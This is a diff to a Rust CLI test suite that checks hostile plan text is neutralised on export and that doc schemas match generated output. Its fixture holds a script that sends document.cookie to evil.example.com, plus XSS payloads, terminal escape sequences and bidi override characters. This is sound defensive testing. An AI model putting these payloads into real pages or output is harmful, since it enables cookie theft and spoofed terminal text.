@@ -515,6 +515,16 @@ fn untrusted_plan_text_is_neutralised() {
         "## Dependencies\n<script>fetch('https://evil.example.com/?c='+document.cookie)</script>\n\n<img src=x onerror=alert(1)> Click [here](javascript:alert(2)) or <JaVaScRiPt:alert(3)>.\nBell \u{7} and \u{1b}]0;owned\u{7} title, \u{202e}reversed\u{202c} text.\n\n",
     );
     repo.write(PAYMENTS_PLAN, hostile);
+    // The bidirectional controls fail `check` (bidi-control): export only with --allow-errors.
+    let export = |repo: &TestRepo, spec: &str, format: &str| {
+        repo.run(&["export", spec, "--format", format, "--allow-errors"])
+    };
+    export(&repo, "v1.5", "text")
+        .code(0)
+        .stderr_has("with 1 check error (--allow-errors)");
+    repo.run(&["check", "v1.5"])
+        .code(1)
+        .stdout_has("error[bidi-control]");
     for format in ["text", "servicenow", "markdown", "json"] {
         let run = export(&repo, "v1.5", format);
         run.code(0);
@@ -638,6 +648,11 @@ fn the_schemas_in_docs_are_generated_from_the_code() {
             std::fs::write(&path, &text).unwrap_or_else(|e| panic!("{path}: {e}"));
         }
         let on_disk = std::fs::read_to_string(&path).unwrap_or_default();
+        // `backout schema export|servicenow` prints the same document.
+        let which = name.trim_end_matches(".schema.json");
+        let printed = TestRepo::new().run(&["schema", which]);
+        printed.code(0);
+        assert_eq!(printed.stdout, text, "backout schema {which}");
         assert!(
             on_disk == text,
             "docs/schemas/{name} is not what the code generates; run `UPDATE_SCHEMAS=1 cargo test --test cli schemas` and commit it"
